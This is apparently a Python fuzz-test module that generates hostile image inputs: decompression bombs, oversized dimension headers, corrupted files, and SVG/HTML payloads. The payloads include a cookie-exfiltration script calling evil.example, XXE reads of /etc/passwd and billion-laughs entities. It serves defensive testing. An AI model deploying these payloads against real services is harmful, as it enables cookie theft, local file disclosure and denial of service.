"""Pictures that say they are huge, that swell when they are read, or that are broken."""

import io
import struct
import zlib
from functools import cache
from random import Random

from PIL import Image, ImageDraw

from tests.fuzz.cases import Case, broken, name

SIDES = (0, 1, 200, 5000, 16_383, 30_000, 65_535, 2**31 - 1, 2**32 - 1)
BOMBS = ("png", "deep", "text", "profile", "frames", "scans", "gray", "webp")


@cache
def _drawn(kind: str) -> bytes:
    picture, target = Image.new("RGB", (320, 480), "#9bd"), io.BytesIO()
    draw = ImageDraw.Draw(picture)
    for top in range(10, 470, 30):
        draw.text((10, top), f"Ik weet waar je woont {top}", fill="black")
    exif = Image.Exif()
    exif[0x0112], exif[0x010E] = 6, "Westerkade 12"
    picture.save(target, kind, **({"exif": exif} if kind != "PNG" else {}))
    return target.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(
    width: int, height: int, lines: bytes, *more: bytes, depth: int = 8, colour: int = 0
) -> bytes:
    """A PNG with a right head, whatever it says."""
    head = struct.pack(">IIBBBBB", width & 0xFFFFFFFF, height & 0xFFFFFFFF, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + b"".join(more)
        + chunk(b"IDAT", lines)
        + chunk(b"IEND", b"")
    )


@cache
def zeros(megabytes: int) -> bytes:
    """Compressed so that it swells a thousand times."""
    packer = zlib.compressobj(9)
    packed = [packer.compress(bytes(1024 * 1024)) for _ in range(megabytes)]
    return b"".join(packed) + packer.flush()


@cache
def _bomb(kind: str) -> bytes:
    match kind:
        case "png":
            return png(14_000, 14_000, zeros(200))
        case "deep":
            return png(6000, 4000, zeros(192), depth=16, colour=6)
        case "text":
            return png(
                10, 10, zlib.compress(bytes(110)), chunk(b"zTXt", b"Comment\0\0" + zeros(200))
            )
        case "profile":
            return png(10, 10, zlib.compress(bytes(110)), chunk(b"iCCP", b"icc\0\0" + zeros(200)))
        case "frames":
            frames = [Image.new("RGB", (600, 600), (n, 0, 0)) for n in range(40)]
            return _saved(frames[0], "PNG", save_all=True, append_images=frames[1:])
        case "scans":
            wide = Image.new("RGB", (6000, 4500), "#123")
            return _saved(wide, "JPEG", progressive=True, quality=10)
        case "gray":
            return _saved(Image.new("L", (20_000, 9000)), "JPEG", quality=5)
        case _:
            return _saved(Image.new("RGB", (9000, 5000)), "WEBP", quality=1, method=0)


def _saved(picture: Image.Image, kind: str, **how: object) -> bytes:
    target = io.BytesIO()
    picture.save(target, kind, **how)
    return target.getvalue()


def hurt_picture(random: Random) -> Case:
    kind = random.choice(("PNG", "JPEG", "WEBP"))
    ending = {"PNG": "png", "JPEG": "jpg", "WEBP": "webp"}[kind]
    return Case("picture, broken", name=name(random, ending, ""), data=broken(random, _drawn(kind)))


def huge_picture(random: Random) -> Case:
    """What is said of the sides is far more than there is."""
    width, height = random.choice(SIDES), random.choice(SIDES)
    match random.choice(("png", "jpeg", "webp")):
        case "png":
            depth, colour = random.choice(((1, 0), (8, 2), (16, 6), (8, 3), (16, 4)))
            lines = zlib.compress(random.randbytes(300))
            return Case(
                "picture, huge",
                name=name(random, "png"),
                data=png(width, height, lines, depth=depth, colour=colour),
            )
        case "jpeg":
            data = bytearray(_drawn("JPEG"))
            at = data.find(b"\xff\xc0")
            data[at + 5 : at + 9] = struct.pack(">HH", height & 0xFFFF, width & 0xFFFF)
            return Case("picture, huge", name=name(random, "jpg"), data=bytes(data))
        case _:
            sides = (width & 0xFFFFFF).to_bytes(3, "little") + (height & 0xFFFFFF).to_bytes(
                3, "little"
            )
            more = b"VP8X" + struct.pack("<I", 10) + random.randbytes(1) + bytes(3) + sides
            body = b"WEBP" + more + _drawn("WEBP")[12:]
            data = b"RIFF" + struct.pack("<I", len(body)) + body
            return Case("picture, huge", name=name(random, "webp"), data=data)


def swelling_picture(random: Random) -> Case:
    """What is small as a file and large when it is read; now and then broken besides."""
    kind = random.choice(BOMBS)
    ending = {"scans": "jpg", "gray": "jpg", "webp": "webp"}.get(kind, "png")
    data = _bomb(kind)
    return Case(
        "picture, swells",
        name=name(random, ending),
        data=broken(random, data) if random.random() < 0.3 else data,
    )


def drawn_picture(random: Random) -> Case:
    """SVG and HTML with scripts, under any name."""
    script = random.choice(
        (
            b"<script>fetch('//evil.example/'+document.cookie)</script>",
            b"<foreignObject><iframe src=javascript:1>",
            b"<!DOCTYPE a [<!ENTITY b 'bbbbbbbb'><!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>",
            b"<image href='file:///etc/passwd'/>",
            b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
        )
    )
    start = random.choice(
        (
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>",
            b"<!doctype html><html>",
            b"<html>",
            b"<?xml version='1.0'?>",
            b"\xef\xbb\xbf<HTML>",
            b"  \n<!DOCTYPE HTML>",
        )
    )
    deep = b"<g>" * random.choice((0, 10, 20_000))
    data = start + deep + script + random.randbytes(random.choice((0, 0, 40)))
    return Case("page or drawing with scripts", name=name(random), data=data)
